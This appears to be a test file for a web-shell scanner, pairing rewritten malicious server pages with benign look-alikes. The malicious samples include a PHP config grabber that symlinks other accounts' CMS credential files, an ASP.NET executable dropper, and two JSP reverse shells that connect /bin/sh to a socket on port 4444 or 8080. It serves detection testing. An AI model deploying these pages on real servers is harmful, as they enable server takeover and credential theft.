import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// The misses of session 43's fair samples (bench/redteam/README-corpus-s43.md), each written again by us, and the
// look-alikes that must not be malicious.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
const why = (r: { score: number; findings: readonly { rule: string; score: number }[] }) => `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`;

// A page's style sheet, long enough that the literal holding it is read by its ends.
const STYLE = Array.from({ length: 40 }, (_, i) => `.c${i} { color: #${((i * 37) % 4096).toString(16).padStart(3, '0')}; margin: ${i}px; }`).join('\n');
// An executable's first bytes and a hundred more, as C# writes a byte array.
const PE = ['0x4d', '0x5a', '0x90', '0x00', ...Array.from({ length: 100 }, (_, i) => `0x${((i * 53) % 256).toString(16).padStart(2, '0')}`)].join(',');

const PAGES: [string, string, string][] = [
  [
    'a shell "encrypter" writing posted code, packed, into a page whose style sheet is one long literal, under a name the form gives (H40)',
    '/srv/www/enc.php',
    `<?php
if (isset($_POST['go'])) {
  $enc = 'base6' . '4_encode';
  $pack = 'gzde' . 'flate';
  $body = $_POST['code'];
  $out = $_POST['name'];
  $packed = $pack($body);
  $page = "<style>\n${STYLE}\n</style><form method=post><textarea name=x><?php echo \\"" . $enc($packed) . "\\"; ?></textarea></form>";
  $fh = fopen($out, 'w');
  fwrite($fh, "<html><body>");
  $fa = fopen($out, 'a+');
  fwrite($fa, $page);
  echo "<a href=" . htmlspecialchars($out) . ">done</a>";
}
`,
  ],
  [
    'a shared-hosting neighbour finder: the accounts of /etc/passwd whose web folder is readable (H40)',
    '/srv/www/jump.php',
    `<?php
$rows = file('/etc///passwd');
$open = [];
foreach ($rows as $row) {
  $f = explode(':', $row);
  if ((int) $f[2] < 500) continue;
  $web = '/home/' . trim($f[0]) . '/public_html/';
  $mode = substr(sprintf('%o', fileperms($web)), -1);
  if ($mode >= 4) $open[] = $web;
}
foreach ($open as $w) echo htmlspecialchars($w), "<br>";
`,
  ],
  [
    'a config grabber linking every account\'s CMS configuration into a folder of its own (H40)',
    '/srv/www/cfg.php',
    `<?php
@mkdir('grab', 0755);
foreach (file('/etc/passwd') as $line) {
  $who = explode(':', $line)[0];
  symlink('/home/' . $who . '/public_html/wp-config.php', 'grab/' . $who . '-wp.txt');
  symlink('/home/' . $who . '/public_html/configuration.php', 'grab/' . $who . '-joomla.txt');
}
echo 'ok';
`,
  ],
  [
    'an ASP.NET page writing an executable held as a byte array to the temp folder and starting it through a Process object (H42)',
    '/inetpub/wwwroot/u.aspx',
    `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  byte[] blob = new byte[] {
${PE} };
  string dir = Path.Combine(Path.GetTempPath(), "upd");
  Directory.CreateDirectory(dir);
  string exe = Path.Combine(dir, "svc.exe");
  FileStream fs = File.Create(exe);
  fs.Write(blob, 0, blob.Length);
  fs.Close();
  System.Diagnostics.Process p = new System.Diagnostics.Process();
  p.StartInfo.CreateNoWindow = true;
  p.StartInfo.FileName = exe;
  p.Start();
}
</script>
`,
  ],
  [
    'a JSP reverse shell holding the Runtime before it runs /bin/sh and wiring it to a socket (H42)',
    '/var/lib/tomcat/webapps/ROOT/r.jsp',
    `<%@ page import="java.io.*,java.net.*" %>
<%
Runtime r = Runtime.getRuntime();
final Process p = r.exec("/bin/sh");
final Socket s = new Socket("192.0.2.10", 4444);
final InputStream from = s.getInputStream();
final OutputStream to = p.getOutputStream();
new Thread(() -> { try { int c; while ((c = from.read()) != -1) { to.write(c); to.flush(); } } catch (IOException e) { } }).start();
InputStream out = p.getInputStream();
OutputStream back = s.getOutputStream();
int c; while ((c = out.read()) != -1) back.write(c);
%>
`,
  ],
];

const LOOKALIKES: [string, string, string][] = [
  [
    'a page builder writing a long template with a form\'s title into its own cache file',
    '/srv/www/builder.php',
    `<?php
$title = htmlspecialchars($_POST['title'] ?? 'Home');
$page = "<style>\n${STYLE}\n</style><h1>" . $title . "</h1>";
file_put_contents(__DIR__ . '/cache/index.html', $page);
`,
  ],
  [
    'a server page listing the system\'s accounts from /etc/passwd with their shells',
    '/srv/www/admin/users.php',
    `<?php
foreach (file('/etc/passwd') as $line) {
  $f = explode(':', trim($line));
  if (count($f) < 7) continue;
  echo htmlspecialchars($f[0] . ' ' . $f[5] . ' ' . $f[6]), "<br>";
}
`,
  ],
  [
    'a hosting account\'s backup of its own web folder',
    '/srv/www/backup.php',
    `<?php
$user = get_current_user();
$web = '/home/' . $user . '/public_html/';
if (is_dir($web)) {
  $zip = new ZipArchive();
  $zip->open('/home/' . $user . '/backup.zip', ZipArchive::CREATE);
  foreach (scandir($web) as $f) if (is_file($web . $f)) $zip->addFile($web . $f, $f);
  $zip->close();
}
`,
  ],
  [
    'an ASP.NET upload check refusing executables by their first bytes, saving the rest',
    '/inetpub/wwwroot/up.aspx',
    `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  if (Request.Files.Count == 0) return;
  var f = Request.Files[0];
  byte[] head = new byte[2];
  f.InputStream.Read(head, 0, 2);
  if (head[0] == 0x4d && head[1] == 0x5a) { Response.StatusCode = 415; return; }
  f.InputStream.Position = 0;
  using (FileStream fs = File.Create(Server.MapPath("~/uploads/" + Path.GetFileName(f.FileName)))) f.InputStream.CopyTo(fs);
}
</script>
`,
  ],
  [
    'a JSP health page reading the heap and checking the database port',
    '/var/lib/tomcat/webapps/ROOT/health.jsp',
    `<%@ page import="java.io.*,java.net.*" %>
<%
Runtime rt = Runtime.getRuntime();
long used = rt.totalMemory() - rt.freeMemory();
boolean db = false;
try (Socket s = new Socket("127.0.0.1", 5432)) { s.getInputStream(); s.getOutputStream(); db = true; } catch (IOException e) { }
out.print("heap " + used + " db " + db);
%>
`,
  ],
];

const VARIANTS: [string, string, string][] = [
  [
    'the Java reverse shell as a class of its own kept as .jsp (H42)',
    '/var/lib/tomcat/webapps/ROOT/cls.jsp',
    `import java.io.*;
import java.net.*;
public class Link implements Runnable {
  Socket sock; PrintWriter net; BufferedReader in; PrintWriter sh;
  public void run() {
    try {
      Runtime rt = Runtime.getRuntime();
      Process p = rt.exec("/bin/sh");
      sh = new PrintWriter(p.getOutputStream());
      BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
      String l; while ((l = r.readLine()) != null) { net.println(l); net.flush(); }
    } catch (Exception e) { }
  }
  public void open() throws IOException {
    sock = new Socket("192.0.2.10", 8080);
    net = new PrintWriter(sock.getOutputStream(), true);
    in = new BufferedReader(new InputStreamReader(sock.getInputStream()));
  }
}
`,
  ],
];

describe('scan: session 43 samples, the misses written again', () => {
  for (const [name, path, src] of PAGES) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every page', () => assert.equal(PAGES.length, 5));
  for (const [name, path, src] of LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 5));
  for (const [name, path, src] of VARIANTS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every variant', () => assert.equal(VARIANTS.length, 1));
  it('reports the line of a write after a long literal as the text\'s own', () => {
    const r = scan(PAGES[0]![2], PAGES[0]![1]);
    const flow = r.findings.find((f) => f.rule === 'mamori:flow');
    assert.ok(flow, why(r));
    const lines = PAGES[0]![2].split('\n');
    assert.match(lines[(flow.line ?? 0) - 1] ?? '', /fwrite\(\$fa, \$page\)/);
  });
});
